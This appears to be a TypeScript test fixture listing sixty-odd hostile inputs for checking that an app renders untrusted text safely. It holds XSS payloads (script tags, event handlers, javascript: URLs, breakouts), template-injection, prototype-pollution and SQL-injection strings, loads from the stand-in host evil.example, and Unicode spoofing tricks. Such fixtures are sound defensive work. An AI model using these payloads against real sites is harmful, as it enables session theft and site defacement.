/**
 * Sixty texts that other programs ran, fetched, or drew out of place. All are legal on the wire [W7]; what is no longer than 64
 * characters and on one line is also tried as a name. Whatever becomes an element carries data-pwned, whatever runs sets `pwned`.
 */

const ran = 'window.pwned=1'
const far = 'http://evil.example/x'

export const hostile: string[] = [
  // elements that run or load by themselves
  `<script data-pwned>${ran}</script>`,
  `<script data-pwned src=//evil.example/x></script>`,
  `<img data-pwned src=x onerror=${ran}>`,
  `<img data-pwned src=${far}>`,
  `<svg data-pwned onload=${ran}>`,
  `<svg data-pwned><script>${ran}</script></svg>`,
  `<svg data-pwned><animate onbegin=${ran} attributeName=x dur=1s>`,
  `<iframe data-pwned src=javascript:${ran}></iframe>`,
  `<iframe data-pwned srcdoc="<script>parent.pwned=1</script>">`,
  `<object data-pwned data=${far}></object>`,
  `<embed data-pwned src=${far}>`,
  `<video data-pwned autoplay src=${far} onerror=${ran}>`,
  `<audio data-pwned src=${far}>`,
  `<link data-pwned rel=stylesheet href=${far}>`,
  `<style data-pwned>@import '${far}'</style>`,
  `<base data-pwned href=http://evil.example>`,
  `<meta data-pwned http-equiv=refresh content="0;${far}">`,
  `<body data-pwned onload=${ran}>`,
  `<details data-pwned open ontoggle=${ran}>`,
  `<marquee data-pwned onstart=${ran}>x</marquee>`,
  `<input data-pwned autofocus onfocus=${ran}>`,
  `<form data-pwned action=${far}><button>OK</button></form>`,
  `<math data-pwned><mi xlink:href="javascript:${ran}">x</mi>`,
  `<template data-pwned><img src=x onerror=${ran}></template>`,
  `<a data-pwned href=javascript:${ran}>click</a>`,
  `<bdi data-pwned>x</bdi></bdi></div><h1 data-pwned>Signed on</h1>`,
  // ways out of an attribute, a comment, a text area, a title, a JSON text
  `"><img data-pwned src=x onerror=${ran}>`,
  `' data-pwned onmouseover='${ran}`,
  `--><img data-pwned src=x onerror=${ran}>`,
  `</textarea><img data-pwned src=x onerror=${ran}>`,
  `</title><script data-pwned>${ran}</script>`,
  `</script><script data-pwned>${ran}</script>`,
  `]]><img data-pwned src=x onerror=${ran}>`,
  `\\"};${ran};//`,
  `\\u003cimg data-pwned src=x onerror=${ran}\\u003e`,
  `&lt;img data-pwned src=x onerror=${ran}&gt;`,
  `&#60;img data-pwned src=x onerror=${ran}&#62;`,
  `%3Cimg%20data-pwned%20src=x%20onerror=${ran}%3E`,
  `<<img data-pwned src=x onerror=${ran}>>`,
  `<ImG/data-pwned/src=x/oNeRrOr=${ran}>`,
  // templates, style, prototypes
  `{{constructor.constructor('${ran}')()}}`,
  `\${${ran}}`,
  `{name}, {count, plural, other {#}}`,
  `{`,
  `<b>bold</b> **bold** [x](javascript:${ran})`,
  `![x](${far})`,
  `color:red;background:url(${far})`,
  `expression(${ran})`,
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '[object Object]',
  `'; DROP TABLE items; --`,
  // out of place: combining marks, joined emoji, one long word, look-alikes, right to left, invisible
  `Z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(6)}algo`,
  '👩‍👩‍👧‍👦👨🏿‍🚀🏴‍☠️🇦🇶❤️‍🔥',
  'W'.repeat(64),
  'Аda, online', // a Cyrillic letter, and what a screen reader would say
  'אבג abc \u200f!\u061c مرحبا',
  'A\u200bd\u2060a\ufeff\u00ad',
]

/** Only as messages: several lines, turned direction, sixteen thousand letters, very many lines. */
export const hostileTexts: string[] = [
  `<img\ndata-pwned\nsrc=x\nonerror=${ran}>`,
  'safe \u202egnp.exe\u202c \u2066\u2067end\u2069',
  'a\u2028b\u2029c',
  'x'.repeat(16_384),
  Array.from({ length: 400 }, (_, n) => `${n} <b data-pwned>`).join('\n'),
]
